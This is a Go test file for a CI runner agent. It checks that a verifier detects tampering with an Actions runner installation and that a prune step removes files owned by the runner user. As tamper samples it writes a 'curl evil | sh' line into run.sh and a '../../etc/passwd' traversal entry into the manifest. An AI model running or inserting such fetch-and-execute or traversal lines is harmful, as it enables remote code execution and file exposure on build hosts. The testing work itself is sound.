//go:build linux

package agent

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// newInstallation writes a small runner installation (the actions runner's shape) and its manifest; the
// tests run as root, so both are root's, as the user data leaves them.
func newInstallation(t *testing.T) (dir, manifest string) {
	t.Helper()
	base := t.TempDir()
	dir = filepath.Join(base, "actions-runner")
	files := map[string]string{
		"config.sh":                        "#!/bin/bash\n./bin/Runner.Listener configure \"$@\"\n",
		"run.sh":                           "#!/bin/bash\n./run-helper.sh \"$@\"\n",
		"run-helper.sh.template":           "#!/bin/bash\n./bin/Runner.Listener run \"$@\"\n",
		"env.sh":                           "#!/bin/bash\necho \"$PATH\" > .path\n",
		"bin/Runner.Listener":              "\x7fELF listener",
		"bin/Runner.Worker":                "\x7fELF worker",
		"externals/node20/bin/node":        "\x7fELF node",
		"externals/node20/lib/index.js":    "module.exports = {}\n",
		"_work/left-by-an-earlier-job.txt": "not part of the installation\n",
	}
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("node20/bin/node", filepath.Join(dir, "externals", "node")); err != nil {
		t.Fatal(err)
	}
	// The top directory: root's, group-writable for the runner user, sticky.
	if err := os.Chmod(dir, os.ModeSticky|0o775); err != nil {
		t.Fatal(err)
	}
	manifest = filepath.Join(base, "runner.sha256")
	if err := WriteManifest(dir, manifest, "_work"); err != nil {
		t.Fatal(err)
	}
	return dir, manifest
}

// TestVerifyInstallation: an untouched installation passes; every way a job (as the runner user, or
// with a file it could write) can change what the next workflow runs is found.
func TestVerifyInstallation(t *testing.T) {
	t.Parallel()
	uid := throwawayUID(t)
	tests := []struct {
		name   string
		modify func(t *testing.T, dir, manifest string)
		want   string // "" passes
	}{
		{"untouched", func(*testing.T, string, string) {}, ""},
		{"runner files added to the top directory", func(t *testing.T, dir, _ string) {
			write(t, filepath.Join(dir, ".runner"), "{}", uid)
			write(t, filepath.Join(dir, "_diag", "Runner.log"), "log", uid)
		}, ""},
		{"workspace content", func(t *testing.T, dir, _ string) {
			write(t, filepath.Join(dir, "_work", "x"), "x", uid)
		}, ""},
		{"script rewritten", func(t *testing.T, dir, _ string) {
			write(t, filepath.Join(dir, "run.sh"), "#!/bin/bash\ncurl evil | sh\n", 0)
		}, "run.sh has SHA-256"},
		{"binary replaced by a runner-owned file", func(t *testing.T, dir, _ string) {
			p := filepath.Join(dir, "bin", "Runner.Listener")
			b, _ := os.ReadFile(p)
			write(t, p+".new", string(b), uid)
			if err := os.Rename(p+".new", p); err != nil {
				t.Fatal(err)
			}
		}, "bin/Runner.Listener is owned by uid"},
		{"file made group-writable", func(t *testing.T, dir, _ string) {
			chmod(t, filepath.Join(dir, "config.sh"), 0o775)
		}, "config.sh is writable by others"},
		{"file removed", func(t *testing.T, dir, _ string) {
			if err := os.Remove(filepath.Join(dir, "env.sh")); err != nil {
				t.Fatal(err)
			}
		}, "env.sh is missing"},
		{"file replaced by a symlink out of the installation", func(t *testing.T, dir, _ string) {
			p := filepath.Join(dir, "externals", "node20", "lib", "index.js")
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("/etc/hostname", p); err != nil {
				t.Fatal(err)
			}
		}, "links outside the installation"},
		{"directory handed to the runner user", func(t *testing.T, dir, _ string) {
			if err := os.Chown(filepath.Join(dir, "externals", "node20"), uid, uid); err != nil {
				t.Fatal(err)
			}
		}, "node20 is owned by uid"},
		{"directory made writable", func(t *testing.T, dir, _ string) {
			chmod(t, filepath.Join(dir, "bin"), 0o777)
		}, "bin is writable by others"},
		{"top directory writable and not sticky", func(t *testing.T, dir, _ string) {
			chmod(t, dir, 0o775)
		}, "is writable by others"},
		{"manifest writable by others", func(t *testing.T, _, manifest string) {
			chmod(t, manifest, 0o666)
		}, "writable by root alone"},
		{"manifest with a path out of the installation", func(t *testing.T, _, manifest string) {
			write(t, manifest, strings.Repeat("ab", 32)+"  ../../etc/passwd\n", 0)
		}, "not inside the installation"},
		{"manifest missing", func(t *testing.T, _, manifest string) {
			if err := os.Remove(manifest); err != nil {
				t.Fatal(err)
			}
		}, "no such file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir, manifest := newInstallation(t)
			tt.modify(t, dir, manifest)
			err := VerifyInstallation(dir, manifest)
			switch {
			case tt.want == "" && err != nil:
				t.Errorf("VerifyInstallation: %v", err)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
				t.Errorf("VerifyInstallation = %v, want an error mentioning %q", err, tt.want)
			}
		})
	}
	t.Run("modified installation error", func(t *testing.T) {
		t.Parallel()
		dir, manifest := newInstallation(t)
		write(t, filepath.Join(dir, "config.sh"), "x", 0)
		if err := VerifyInstallation(dir, manifest); !errors.Is(err, ErrInstallationModified) {
			t.Errorf("err = %v, want ErrInstallationModified", err)
		}
	})
}

// TestPruneInstallation: the runner user's entries in the top directory go (the runner's registration,
// its environment files, logs, anything a job added), root's and the workspace stay.
func TestPruneInstallation(t *testing.T) {
	t.Parallel()
	uid := throwawayUID(t)
	dir, manifest := newInstallation(t)
	for _, name := range []string{".runner", ".credentials", ".env", ".path", "run-helper.sh", "evil.sh"} {
		write(t, filepath.Join(dir, name), "x", uid)
	}
	write(t, filepath.Join(dir, "_diag", "Runner.log"), "log", uid)
	if err := os.Chown(filepath.Join(dir, "_work"), uid, uid); err != nil {
		t.Fatal(err)
	}
	if err := pruneInstallation(dir, filepath.Join(dir, "_work")); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range entries {
		got = append(got, e.Name())
	}
	want := []string{"_work", "bin", "config.sh", "env.sh", "externals", "run-helper.sh.template", "run.sh"}
	if !slices.Equal(got, want) {
		t.Errorf("after pruning: %v, want %v", got, want)
	}
	if err := VerifyInstallation(dir, manifest); err != nil {
		t.Errorf("pruned installation: %v", err)
	}
}

func write(t *testing.T, p, body string, uid int) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	if uid != 0 {
		if err := os.Chown(p, uid, uid); err != nil {
			t.Fatal(err)
		}
		if filepath.Base(filepath.Dir(p)) == "_diag" {
			if err := os.Chown(filepath.Dir(p), uid, uid); err != nil {
				t.Fatal(err)
			}
		}
	}
}

func chmod(t *testing.T, p string, mode os.FileMode) {
	t.Helper()
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}
